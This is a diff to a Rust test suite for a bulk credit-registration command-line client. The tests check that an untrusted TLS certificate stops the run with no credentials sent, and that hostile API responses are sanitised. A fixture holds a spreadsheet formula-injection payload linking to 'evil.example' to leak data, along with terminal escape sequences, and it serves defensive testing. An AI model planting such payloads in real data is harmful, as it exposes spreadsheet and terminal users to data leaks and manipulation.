@@ -250,12 +250,14 @@ async fn a_redirect_to_another_host_is_not_followed() {
     assert_eq!(reached.load(Ordering::SeqCst), 0, "a redirect was followed with the credentials");
 }
 
-#[tokio::test]
-async fn a_certificate_nobody_vouches_for_is_refused() {
+/// A TLS server on a free port whose certificate is self-signed for the very name the client asks
+/// for ("localhost"): only trust is missing. Were the certificate accepted, it would answer a
+/// registration, so a client that trusted it would report a success that never happened. The
+/// counts are of connections made and of requests that crossed.
+async fn self_signed_server() -> (SocketAddr, Arc<AtomicU64>, Arc<AtomicU64>) {
     use tokio_rustls::rustls::ServerConfig;
     use tokio_rustls::rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
 
-    // A self-signed certificate for the very name the client asks for: only trust is missing.
     let key = rcgen::KeyPair::generate().expect("a key pair");
     let cert = rcgen::CertificateParams::new(vec!["localhost".to_owned()])
         .expect("certificate parameters")
@@ -274,8 +276,6 @@ async fn a_certificate_nobody_vouches_for_is_refused() {
     let (addr, connections) = serve(move |stream| {
         let (acceptor, seen) = (acceptor.clone(), seen.clone());
         async move {
-            // Were the certificate accepted, this server would answer a registration: a client
-            // that trusted it would report a success that never happened.
             let Ok(mut tls) = acceptor.accept(stream).await else { return };
             if !read_request(&mut tls).await.is_empty() {
                 seen.fetch_add(1, Ordering::SeqCst);
@@ -287,15 +287,137 @@ async fn a_certificate_nobody_vouches_for_is_refused() {
         }
     })
     .await;
+    (addr, connections, requests)
+}
+
+#[tokio::test]
+async fn a_certificate_nobody_vouches_for_aborts_naming_the_host() {
+    let (addr, connections, requests) = self_signed_server().await;
     let endpoint = format!("https://localhost:{}/registeration", addr.port());
     let client = Client::new(&settings(&endpoint, Duration::from_secs(5))).expect("a client");
     let outcome = tokio::time::timeout(Duration::from_secs(15), client.send(client.body(&applicant())))
         .await
         .expect("the client's own timeout ends every request");
-    let t = transient(&outcome);
-    assert!(t.reason.contains("certificate"), "{}", t.reason);
+    let Outcome::Abort(abort) = outcome else { panic!("expected an abort, got {outcome:?}") };
+    assert_eq!((abort.kind, abort.http_status), (AbortKind::Certificate, None));
+    assert!(
+        abort
+            .message
+            .starts_with("the TLS certificate of localhost is signed by no authority this machine trusts"),
+        "{}",
+        abort.message
+    );
     assert!(connections.load(Ordering::SeqCst) >= 1, "the client never reached the server");
     assert_eq!(requests.load(Ordering::SeqCst), 0, "the request (and its credentials) crossed");
+}
+
+/// A run against an endpoint whose certificate is not trusted stops at the first answer, with
+/// exit 3 and the host and the problem named: retrying cannot make a certificate trusted, and
+/// every retry would offer the credentials to whoever holds that certificate.
+#[test]
+fn a_run_stops_at_once_on_a_certificate_error() {
+    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
+    let (addr, connections, requests) = runtime.block_on(self_signed_server());
+    let endpoint = format!("https://localhost:{}/registeration", addr.port());
+    let file: String = std::iter::once(common::HEADER.to_owned())
+        .chain((1..=20).map(common::customer))
+        .collect::<Vec<_>>()
+        .join("\n");
+    let run = common::Test::new()
+        .file("in.csv", file)
+        .env("AOPAY_REGISTRATION_ID", "AOP-554")
+        .env("AOPAY_COMPANY_CODE", "CMP1045")
+        .args(["run", "in.csv", "--endpoint", &endpoint, "--concurrency", "2", "--max-attempts", "10"])
+        .args(["--max-consecutive-failures", "100", "--summary", "s.json"])
+        .run();
+    run.code(3)
+        .stderr_contains("the endpoint cannot be trusted")
+        .stderr_contains("the TLS certificate of localhost is signed by no authority this machine trusts");
+    // One failed handshake per worker at most: nothing was retried.
+    let made = connections.load(Ordering::SeqCst);
+    assert!((1..=2).contains(&made), "{made} connections");
+    assert_eq!(requests.load(Ordering::SeqCst), 0);
+    assert!(run.csv("in.results.csv").column("status").iter().all(|s| *s == "pending"));
+    assert_eq!(run.json("s.json")["stopped"], "aborted");
+}
+
+/// Answers to the registration of a customer by PAN: a formula where the cibil_id belongs, a
+/// message full of terminal escapes and as long as the answer allows, and a registration whose
+/// other fields carry escapes too.
+fn hostile_answer(pan: &str) -> String {
+    if pan == common::pan(1) {
+        r#"{"status":"SUCCESS","message":"success","result":{"cibil_id":"=HYPERLINK(\"http://evil.example/?leak\",\"click\")","cibil_status":"Pending"}}"#.to_owned()
+    } else if pan == common::pan(2) {
+        format!(
+            r#"{{"status":"False","code":"E\u001b[31m7","description":"Invalid \u001b]0;owned\u0007PAN\r\n\u001b[2J{}"}}"#,
+            "x".repeat(200_000)
+        )
+    } else {
+        r#"{"status":"SUCCESS","merchant_trans_id":"M\u0007-1","access_token":"tok\u001b[2J","result":{"cibil_id":"9362678","cibil_status":"Pending\u001b[5m","is_returning_customer":0}}"#.to_owned()
+    }
+}
+
+#[test]
+fn what_a_hostile_vendor_says_reaches_no_file_and_no_terminal_as_sent() {
+    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
+    let (addr, _) = runtime.block_on(serve(|mut stream| async move {
+        let request = read_request(&mut stream).await;
+        let body = request.windows(4).position(|w| w == b"\r\n\r\n").map_or(&[][..], |at| &request[at + 4..]);
+        let pan = serde_json::from_slice::<serde_json::Value>(body)
+            .ok()
+            .and_then(|v| v["pancard"].as_str().map(str::to_owned))
+            .unwrap_or_default();
+        let answer = hostile_answer(&pan);
+        let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", answer.len());
+        let _ = stream.write_all(head.as_bytes()).await;
+        let _ = stream.write_all(answer.as_bytes()).await;
+        let _ = stream.shutdown().await;
+    }));
+    let endpoint = format!("http://{addr}/registeration");
+    let file = format!(
+        "{}\n{}\n{}\n{}\n",
+        common::HEADER,
+        common::customer(1),
+        common::customer(2),
+        common::customer(3)
+    );
+    let run = common::Test::new()
+        .file("in.csv", file)
+        .env("AOPAY_REGISTRATION_ID", "AOP-554")
+        .env("AOPAY_COMPANY_CODE", "CMP1045")
+        .args(["run", "in.csv", "--endpoint", &endpoint, "--summary", "s.json", "-vv"])
+        .run();
+    run.code(1);
+
+    let results = run.csv("in.results.csv");
+    assert_eq!(results.column("status"), ["rejected", "rejected", "registered"]);
+    assert_eq!(results.column("cibil_id"), ["", "", "9362678"]);
+    assert_eq!(results.column("error_code"), ["cibil_id.shape", "E[31m7", ""]);
+    assert_eq!(results.column("cibil_status"), ["", "", "Pending[5m"]);
+    assert_eq!(results.column("merchant_trans_id"), ["", "", "M-1"]);
+    let message = results.at_line(3, "error");
+    assert!(message.starts_with("Invalid ]0;ownedPAN [2Jxxx"), "{message}");
+    assert!(message.len() <= cibil_bulk::api::MESSAGE_LIMIT, "{} bytes", message.len());
+    assert!(results.at_line(2, "error").contains("AOPay may have registered this customer"));
+
+    let hostile = ['\u{1b}', '\u{7}', '\r', '\u{202e}'];
+    for name in ["in.results.csv", "in.errors.csv"] {
+        let csv = run.csv(name);
+        for cell in csv.rows.iter().flatten().chain(&csv.headers) {
+            assert!(!cell.contains(hostile), "{name}: {cell:?}");
+            assert!(!cell.contains("HYPERLINK") && !cell.contains("evil.example"), "{name}: {cell:?}");
+        }
+    }
+    let summary = String::from_utf8_lossy(&run.bytes("s.json")).into_owned();
+    for text in [&run.stdout, &run.stderr, &summary] {
+        assert!(!text.contains(hostile), "{text}");
+        assert!(!text.contains("HYPERLINK") && !text.contains("evil.example"), "{text}");
+    }
+    // The raw answer is kept for the operator, in the state, and there only.
+    let state = rusqlite::Connection::open(run.path("cibil-bulk.db")).unwrap();
+    let raw: String =
+        state.query_row("SELECT raw_response FROM rows WHERE line = 2", [], |r| r.get(0)).unwrap();
+    assert!(raw.contains("HYPERLINK"), "{raw}");
 }
 
 /// A Retry-After of a year is cut to `--max-retry-after`, and the run says so in its log.
